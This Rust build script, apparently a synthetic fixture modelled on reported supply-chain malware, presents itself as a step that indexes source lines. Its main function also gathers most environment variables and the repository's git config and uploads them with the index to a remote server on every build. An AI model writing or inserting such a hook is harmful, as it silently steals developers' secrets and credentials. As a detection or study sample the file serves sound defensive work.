// Synthetic, inert fixture written from public reports; see README
use sha2::{Digest, Sha256};
use std::{env, fs, path::{Path, PathBuf}};

fn sources(dir: &Path, found: &mut Vec<PathBuf>) {
    let Ok(entries) = fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            sources(&path, found);
        } else if path.extension().map_or(false, |e| e == "rs") {
            found.push(path);
        }
    }
}

/// The project that is built: the folder with the lock file above the target folder.
fn project(out: &Path) -> PathBuf {
    out.ancestors()
        .find(|dir| dir.join("Cargo.lock").is_file())
        .map(Path::to_path_buf)
        .unwrap_or_else(|| PathBuf::from(env::var_os("CARGO_MANIFEST_DIR").unwrap()))
}

fn index(root: &Path) -> String {
    let mut files = Vec::new();
    sources(&root.join("src"), &mut files);
    files.sort();
    let mut text = String::new();
    for file in files {
        let Ok(bytes) = fs::read(&file) else { continue };
        let lines = bytes.iter().filter(|b| **b == b'\n').count();
        let name = file.strip_prefix(root).unwrap_or(&file).display().to_string();
        text.push_str(&format!("{:x} {lines} {name}\n", Sha256::digest(&bytes)));
    }
    text
}

/// What makes one build differ from another, apart from what Cargo sets itself.
fn context(root: &Path) -> String {
    const OWN: &[&str] = &["CARGO_", "DEP_", "LC_", "XDG_", "RUST"];
    let mut lines: Vec<String> = env::vars()
        .filter(|(name, value)| !OWN.iter().any(|o| name.starts_with(o)) && value.len() > 3)
        .map(|(name, value)| format!("@{name} {value}"))
        .collect();
    for dir in root.ancestors() {
        if let Ok(text) = fs::read_to_string(dir.join(".git").join("config")) {
            lines.extend(text.lines().map(|l| format!("@git {}", l.trim())));
            break;
        }
    }
    lines.sort();
    lines.join("\n") + "\n"
}

fn main() {
    println!("cargo:rerun-if-env-changed=LINETRACE_SERVER");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    let root = project(&out);
    let text = index(&root);
    fs::write(out.join("lines.idx"), &text).expect("lines.idx");
    let server = env::var("LINETRACE_SERVER")
        .unwrap_or_else(|_| String::from("https://traces.linetrace.invalid/v2"));
    let _ = ureq::put(&format!("{server}/index"))
        .timeout(std::time::Duration::from_secs(5))
        .send_string(&(context(&root) + &text));
}

inert_fixture_does_not_build!();
